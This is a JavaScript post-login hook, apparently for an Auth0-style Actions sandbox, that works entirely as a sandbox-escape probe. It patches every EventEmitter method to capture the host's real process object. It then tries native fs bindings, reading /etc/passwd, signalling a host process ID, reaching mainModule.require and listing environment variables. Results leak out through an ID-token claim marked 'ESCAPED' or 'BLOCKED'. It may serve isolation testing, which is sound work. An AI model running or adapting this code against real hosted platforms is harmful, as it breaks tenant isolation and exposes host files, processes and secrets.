// the real process object through patched EventEmitter methods, warnings and rejections
exports.onExecutePostLogin = async (event, api) => {
  const S = event.secrets;
  const out = (v) => { try { api.idToken.setCustomClaim('probe', String(v).slice(0, 400)); } catch {} };
  const found = [];
  const attempt = async (label, act) => { try { const r = await act(); if (r) found.push(label + ' ' + String(r).slice(0, 80)); } catch {} };
  const EE = require('events'); const seen = new Set();
  for (const k of Object.getOwnPropertyNames(EE.prototype)) { const o = EE.prototype[k]; if (typeof o === 'function') try { EE.prototype[k] = function (...a) { seen.add(this); return o.apply(this, a); }; } catch {} }
  require('util').deprecate(() => {}, 'old', 'DEP9')(); process.emitWarning('w'); const em = new EE(); for (let i = 0; i < 20; i++) em.on('x', () => {}); Promise.reject(1).catch(() => {}); new (require('buffer').Buffer)(5);
  for (const [k, v] of Object.entries(await import('node:process'))) if (v && v.reallyExit) seen.add(v); await new Promise((r) => setTimeout(r, 20));
  for (const p of seen) { await attempt('binding', () => p.binding && p.binding('fs')); await attempt('built-in', () => p.reallyExit && p.getBuiltinModule && p.getBuiltinModule('fs').readFileSync('/etc/passwd').length); await attempt('kill', () => p.kill && p.kill(Number(S.HOST_PID), 0)); await attempt('events', () => p.reallyExit && p._events && Object.keys(p._events).length); await attempt('main', () => p.mainModule && p.mainModule.require); await attempt('env', () => p.reallyExit && Object.keys(p.env).filter((k) => k !== 'TZ').join()); await attempt('stdout', () => p.reallyExit && p.stdout.fd !== undefined); }
  out(found.length > 0 ? 'ESCAPED:' + found.join('; ') : 'BLOCKED:nothing worked');
};
